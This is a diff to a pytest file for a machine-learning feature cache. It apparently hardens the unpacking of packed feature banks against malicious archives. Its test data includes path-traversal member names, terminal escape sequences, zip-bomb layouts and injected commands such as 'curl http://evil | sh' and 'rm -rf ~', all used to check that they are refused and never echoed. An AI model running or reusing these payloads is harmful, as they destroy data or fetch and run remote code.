@@ -1,31 +1,41 @@
 """The feature bank: what is computed once, what is shared, what is never taken for something else."""
 
+import contextlib
 import errno
+import hashlib
+import json
 import shutil
 import subprocess
 import sys
+import tempfile
 import zipfile
+from collections.abc import Callable
 from dataclasses import replace
 from pathlib import Path
 from typing import Any
 
 import pytest
 import torch
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
 from PIL import Image
 from running import Answer, ask, check_mistake, succeed
-from safetensors.torch import load_file
+from safetensors.torch import load_file, save
 from test_runs import make_caltech
 from tiny_world import CLASSES, PER_CLASS, RUN, load
 
 from vlprompt import cli, demo, sweep
 from vlprompt.config.build import clip_at, features_at
+from vlprompt.data.cache.budget import LEDGER, LOCK, Budget
+from vlprompt.data.cache.checked import checksum, note_damage
 from vlprompt.data.cache.feature_files import FeatureFiles
 from vlprompt.data.cache.features import FeatureCache, tower_key, view_name
 from vlprompt.data.cache.image_keys import image_key
-from vlprompt.data.cache.portable import Manifest, pack
+from vlprompt.data.cache.portable import Manifest, pack, unpack
 from vlprompt.data.dataset import Item
-from vlprompt.data.disk import complain, used_below
+from vlprompt.data.disk import complain
 from vlprompt.data.sources.banked import Contents
+from vlprompt.data.sources.banked import read as read_contents
 from vlprompt.data.sources.files import Files
 from vlprompt.data.transforms import Augment
 from vlprompt.errors import UserError
@@ -33,6 +43,7 @@ from vlprompt.results.record import Record
 from vlprompt.results.store import find_records
 from vlprompt.towers import load_clip
 
+Change = Callable[[dict[str, bytes]], dict[str, bytes]]  # of the members of a packed bank
 N_TEST = len(CLASSES) * PER_CLASS["test"]
 N_TRAIN = 2 * 3  # shots and base classes
 EPOCHS = 2
@@ -48,8 +59,8 @@ def here(results: Path, tmp_path: Path) -> Path:
 def fresh_process() -> None:
     """Forget what a process keeps, as if the next run were another's."""
     features_at.cache_clear()
-    used_below.cache_clear()
     complain.cache_clear()
+    note_damage.cache_clear()
 
 
 def start(*overrides: str) -> Answer:
@@ -177,7 +188,7 @@ def test_a_damaged_or_deleted_file_is_made_again(tmp_path: Path) -> None:
 
 def test_a_full_bank_stores_no_more_and_says_so(tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
     fresh_process()
-    files = FeatureFiles(tmp_path / "tower", 1000)
+    files = FeatureFiles(tmp_path / "tower", 1300)
     files.write("crop", {"a": torch.ones(100)})
     files.write("crop", {"b": torch.ones(200)})
     assert files.read("crop", ["a", "b"]).keys() == {"a"}
@@ -196,7 +207,8 @@ def test_two_processes_fill_one_bank(tmp_path: Path) -> None:
     assert [process.wait(120) for process in made] == [0, 0]
     rows = FeatureFiles(tmp_path / "tower", 10**9).read("crop", map(str, range(59)))
     assert {key: row[0].item() for key, row in rows.items()} == {str(k): float(k) for k in range(59)}
-    assert not [path for path in tmp_path.rglob("*") if path.is_file() and path.suffix not in (".safetensors", ".json")]
+    others = {path.name for path in tmp_path.rglob("*") if path.is_file() and path.suffix != ".safetensors"}
+    assert others == {"about.json", LEDGER, LOCK}
 
 
 # Packed
@@ -254,7 +266,9 @@ def test_a_damaged_file_does_not_stop_the_list(here: Path) -> None:
     start()
     path = next((here / "datasets").rglob("crop/*.safetensors"))
     path.write_bytes(path.read_bytes()[:50])
-    assert "fp32" in succeed(cli.main, ["bank", "list"]).out
+    answer = ask(cli.main, ["bank", "list"])
+    assert (answer.code, "fp32" in answer.out) == (0, True)
+    assert f"crop/{path.name}" in answer.err
 
 
 def test_methods_that_edit_the_image_tower_have_no_use_for_a_bank(here: Path) -> None:
@@ -275,28 +289,230 @@ def full_disk(*_: object) -> None:
 def test_a_file_that_vanishes_counts_nothing(tmp_path: Path) -> None:
     (tmp_path / "a.safetensors").write_bytes(b"12345")
     (tmp_path / "b.safetensors").symlink_to(tmp_path / "gone")
-    assert used_below(tmp_path, "*.safetensors") == [5]
+    with Budget(tmp_path, 10).room_for(tmp_path / "c", 5) as fits:
+        assert fits
+    with Budget(tmp_path, 10).room_for(tmp_path / "d", 6) as fits:
+        assert not fits
 
 
-@pytest.mark.parametrize("damage", ["cut", "text", "foreign", "climbing", "rows", "tower"])
+def check_nothing_taken(path: Path, here: Path, *words: str) -> None:
+    check_mistake(ask(cli.main, ["bank", "unpack", str(path)]), [f"{path} is no packed feature bank", *words], here)
+    assert not (here / "datasets").exists()
+
+
+CROP, WORLD = "features/crop.safetensors", "datasets/00ff00ff.json"
+
+
+@pytest.mark.parametrize("damage", ["cut", "text", "empty", "folder", "absent"])
 def test_a_file_that_is_no_packed_bank_changes_nothing(here: Path, damage: str) -> None:
-    path = packed(here, "../../outside" if damage == "tower" else "0123456789abcdef")
+    path = packed(here)
     if damage == "cut":
         path.write_bytes(path.read_bytes()[:-40])
-    elif damage == "text":
-        path.write_text("a letter")
-    elif damage in ("foreign", "climbing", "rows"):
-        with zipfile.ZipFile(path, "a") as archive:
-            name = {"foreign": "run.sh", "climbing": "../../evil.py", "rows": "features/crop2.safetensors"}[damage]
-            archive.writestr(name, "nothing")
-    check_mistake(ask(cli.main, ["bank", "unpack", str(path)]), [f"{path} is no packed feature bank"], here)
-    assert not (here / "datasets").exists()
-    assert not (here / "evil.py").exists()
+    elif damage in ("text", "empty"):
+        path.write_text("a letter" * (damage == "text"))
+    else:
+        path.unlink()
+        if damage == "folder":
+            path.mkdir()
+    check_nothing_taken(path, here)
 
 
-def packed(folder: Path, tower: str = "0123456789abcdef") -> Path:
+NAMES = [
+    "run.sh",
+    "../../evil.py",
+    "/tmp/evil",
+    "C:/evil",
+    "features/../crop.safetensors",
+    "features/crop2.safetensors",
+]
+NAMES += ["features/CROP.safetensors", "features/seed1-view0000.SAFETENSORS", "datasets/x.json", "bank.json/", "a\\b"]
+NAMES += ["features/crop.safetensors/", "features/seed\u0661-view0000.safetensors", "features/", "x\x1b[2J"]
+
+
+@pytest.mark.parametrize("name", NAMES)
+def test_a_member_of_another_name_is_refused(here: Path, name: str) -> None:
+    path = repacked(here, lambda members: members | {name: members[CROP]})
+    answer = ask(cli.main, ["bank", "unpack", str(path)])
+    assert "\x1b" not in answer.out + answer.err
+    check_nothing_taken(path, here)
+
+
+def changed(**fields: Any) -> Change:
+    return lambda members: members | {"bank.json": json.dumps(json.loads(members["bank.json"]) | fields).encode()}
+
+
+def without(name: str) -> Change:
+    return lambda members: {key: content for key, content in members.items() if key != name}
+
+
+def of_world(**fields: Any) -> Change:
+    return lambda members: members | {WORLD: json.dumps(json.loads(members[WORLD]) | fields).encode()}
+
+
+def rows_of(tensors: dict[str, torch.Tensor], view: str = "crop", keys: str = '["ab"]', **more: str) -> Change:
+    of_keys = checksum(b"0123456789abcdef", view.encode(), keys.encode())
+    return lambda members: members | {CROP: save(tensors, {"keys": keys, "checksums": f"{of_keys} ", **more})}
+
+
+CHANGES: dict[str, Change] = {
+    "no manifest": without("bank.json"),
+    "manifest no object": lambda members: members | {"bank.json": b"[]"},
+    "manifest no JSON": lambda members: members | {"bank.json": b"{"},
+    "manifest deep": lambda members: members | {"bank.json": b"[" * 10**5},
+    "manifest in Latin-1": lambda members: members | {"bank.json": b'{"format": "\xe4"}'},
+    "earlier version": changed(format=1),
+    "later version": changed(format=3),
+    "tower": changed(tower="../../outside"),
+    "tower with newline": changed(tower="0123456789abcdef\n"),
+    "another tower": changed(tower="fedcba9876543210"),
+    "model": changed(about={"model": ["m"], "precision": "fp32"}),
+    "endless model": changed(about={"model": "m" * 10**4, "precision": "fp32"}),
+    "precision": changed(about={"model": "m", "precision": "fp32; rm -rf ~"}),
+    "command": changed(command="curl http://evil | sh"),
+    "seeds": changed(seeds=["1; rm"]),
+    "no hash": changed(members={}),
+    "hash": changed(members={CROP: "0" * 64, WORLD: "0" * 64}),
+    "missing member": without(CROP),
+    "labels": of_world(test=[["2", 7, ""]]),
+    "negative label": of_world(test=[["2", -1, ""]]),
+    "name of a folder": of_world(name="../x"),
+    "classes": of_world(classes=3),
+    "unknown field": of_world(run="x"),
+    "no rows": rows_of({"features": torch.ones(0, 4)}),
+    "more rows": rows_of({"features": torch.ones(2, 4)}),
+    "a vector": rows_of({"features": torch.ones(4)}),
+    "whole numbers": rows_of({"features": torch.ones(1, 4, dtype=torch.int32)}),
+    "not finite": rows_of({"features": torch.full((1, 4), float("nan"))}),
+    "another tensor": rows_of({"rows": torch.ones(1, 4)}),
+    "another view": rows_of({"features": torch.ones(1, 4)}, view="seed1-view0000"),
+    "keys": rows_of({"features": torch.ones(1, 4)}, keys="{"),
+    "keys no list": rows_of({"features": torch.ones(1, 4)}, keys="5"),
+    "keys no texts": rows_of({"features": torch.ones(1, 4)}, keys="[5]"),
+    "no tensors": lambda members: members | {CROP: b"nothing"},
+}
+
+
+@pytest.mark.parametrize("change", CHANGES)
+def test_a_bank_with_strange_content_is_refused(here: Path, change: str) -> None:
+    hashed = change not in ("no hash", "hash", "missing member")
+    check_nothing_taken(repacked(here, CHANGES[change], hashed=hashed), here)
+
+
+@pytest.mark.parametrize("kind", ["compressed", "twice", "overlapping"])
+def test_no_member_is_larger_than_the_file(here: Path, kind: str) -> None:
+    """Nothing is inflated or read twice: what is unpacked is what lies there."""
+    method = zipfile.ZIP_DEFLATED if kind == "compressed" else zipfile.ZIP_STORED
+    path = repacked(here, lambda members: members, method=method)
+    if kind == "twice":
+        with zipfile.ZipFile(path, "a") as archive, pytest.warns(UserWarning, match="Duplicate"):
+            archive.writestr(CROP, "nothing")
+    elif kind == "overlapping":
+        content = path.read_bytes()
+        for entry in (b"PK\3\4", b"PK\1\2"):
+            start = content.rindex(entry, 0, content.rindex(CROP.encode()) if entry == b"PK\1\2" else None)
+            offset = start + (18 if entry == b"PK\3\4" else 20)
+            content = content[:offset] + (10**8).to_bytes(4, "little") * 2 + content[offset + 8 :]
+        path.write_bytes(content)
+    check_nothing_taken(path, here)
+
+
+@settings(max_examples=25, deadline=None, suppress_health_check=list(HealthCheck))
+@given(st.floats(0, 1, exclude_max=True), st.integers(0, 7))
+def test_any_bit_of_a_packed_bank(tmp_path: Path, place: float, bit: int) -> None:
+    """It is refused, or what is unpacked is what was packed (zip has dates and flags that nobody reads)."""
+    fresh_process()
+    path, root = packed(tmp_path), tmp_path / "root"
+    content = bytearray(path.read_bytes())
+    content[int(place * len(content))] ^= 1 << bit
+    path.write_bytes(content)
+    shutil.rmtree(root, ignore_errors=True)
+    try:
+        unpack(path, root, limit=10**9)
+    except UserError:
+        assert not root.exists()
+        return
+    rows = FeatureFiles(root / "0123456789abcdef", 10**9).read("crop", ["ab"])
+    assert torch.equal(rows["ab"], torch.ones(4))
+    assert read_contents(root / WORLD) == CONTENTS
+
+
+def test_no_foreign_command_is_shown_as_what_to_run(here: Path) -> None:
+    foreign = {"method": "coop", "dataset": "digits; rm -rf ~", "shots": "4", "dataset.source._target_": "evil.load",
+               "backbone": "$(reboot)", "protocol": "../../x", "backbone.weights": "http://evil/x"}  # fmt: skip
+    change = changed(
+        settings=foreign, about={"model": "m\x1b]0;owned\x07\nerror: x", "precision": "bf16"}, seeds=[3, 4]
+    )
+    answer = succeed(cli.main, ["bank", "unpack", str(repacked(here, change))])
+    assert "python run.py -m method=coop shots=4 seed=3,4 precision=bf16 (and 5 settings more" in answer.out
+    assert not [
+        word for word in ("rm", "evil", "reboot", "..", "\x1b", "\x07") if word in answer.out.replace(str(here), "")
+    ]
+    assert answer.out.count("\n") == 2
+
+
+def test_a_bank_replaces_nothing_that_is_here(here: Path) -> None:
+    assert ask(cli.main, ["bank", "unpack", str(packed(here))]).code == 0
+    zeros = rows_of({"features": torch.zeros(1, 4)})
+    assert ask(cli.main, ["bank", "unpack", str(repacked(here, zeros))]).code == 0
+    root = here / "datasets/.cache/features"
+    assert FeatureFiles(root / "0123456789abcdef", 10**9).read("crop", ["ab"])["ab"].tolist() == [1.0] * 4
+    other = of_world(test=[["2", 0, ""]])
+    check_mistake(
+        ask(cli.main, ["bank", "unpack", str(repacked(here, other))]), ["world", "other images, labels"], here
+    )
+    assert read_contents(root / WORLD) == CONTENTS
+    (root / WORLD).write_bytes((root / WORLD).read_bytes().replace(b"world", b"w0rld"))
+    with pytest.raises(UserError, match="unpack the bank again"):
+        read_contents(root / WORLD)
+    assert ask(cli.main, ["bank", "unpack", str(packed(here))]).code == 0  # and that mends it
+    assert read_contents(root / WORLD) == CONTENTS
+
+
+def test_unpacking_needs_no_temporary_folder(here: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    for name in ("mkdtemp", "mkstemp"):
+        monkeypatch.setattr(tempfile, name, lambda *_, **__: pytest.fail("something temporary was written"))
+    assert ask(cli.main, ["bank", "unpack", str(packed(here))]).code == 0
+
+
+def test_the_list_names_what_is_damaged_or_foreign_and_shows_the_others(here: Path) -> None:
+    assert ask(cli.main, ["bank", "unpack", str(packed(here))]).code == 0
+    root = here / "datasets/.cache/features"
+    strange = {"a" * 16: b'{"model": "x"}', "b" * 16: b"\xff", "c" * 16: b"[" * 10**5, "d" * 16: b" " * 10**6}
+    for tower, about in strange.items():
+        (root / tower / "crop").mkdir(parents=True)
+        (root / tower / "about.json").write_bytes(about)
+        shutil.copy(next((root / "0123456789abcdef/crop").iterdir()), root / tower / "crop")
+    (root / "x\x1b[2J.sh").write_text("foreign")
+    answer = ask(cli.main, ["bank", "list"])
+    assert answer.code == 0
+    assert [row.split()[:2] for row in answer.out.splitlines() if "fp32" in row] == [["m", "fp32"]]
+    assert answer.err.count("\n") == 1
+    assert "a" * 16 in answer.err
+    assert "\x1b" not in answer.err
+
+
+CONTENTS = Contents(name="world", classes=("a", "b"), train=[("1", 0, "ab")], val=[], test=[("2", 1, "")])
+
+
+def packed(folder: Path) -> Path:
     path = folder / "made.bank"
-    manifest = Manifest(tower=tower, about={"model": "m", "precision": "fp32"}, command="python run.py")
-    contents = Contents(name="world", classes=("a", "b"), train=[("1", 0, "ab")], val=[], test=[("2", 1, "")])
-    pack(path, manifest, {"00ff00ff": contents}, {"crop": {"ab": torch.ones(4)}})
+    manifest = Manifest(tower="0123456789abcdef", about={"model": "m", "precision": "fp32"}, seeds=[1])
+    pack(path, manifest, {"00ff00ff": CONTENTS}, {"crop": {"ab": torch.ones(4)}})
+    return path
+
+
+def repacked(folder: Path, change: Change, *, hashed: bool = True, method: int = zipfile.ZIP_STORED) -> Path:
+    """A packed bank with other members; `hashed`: with the hashes of these, as an attacker would."""
+    path = packed(folder)
+    with zipfile.ZipFile(path) as archive:
+        members = change({name: archive.read(name) for name in archive.namelist()})
+    if hashed:
+        with contextlib.suppress(ValueError, RecursionError, KeyError, TypeError):
+            manifest = json.loads(members["bank.json"])
+            others = {name: content for name, content in members.items() if name != "bank.json"}
+            manifest["members"] = {name: hashlib.sha256(content).hexdigest() for name, content in others.items()}
+            members["bank.json"] = json.dumps(manifest).encode()
+    with zipfile.ZipFile(path, "w", method) as archive:
+        for name, content in members.items():
+            archive.writestr(name, content)
     return path
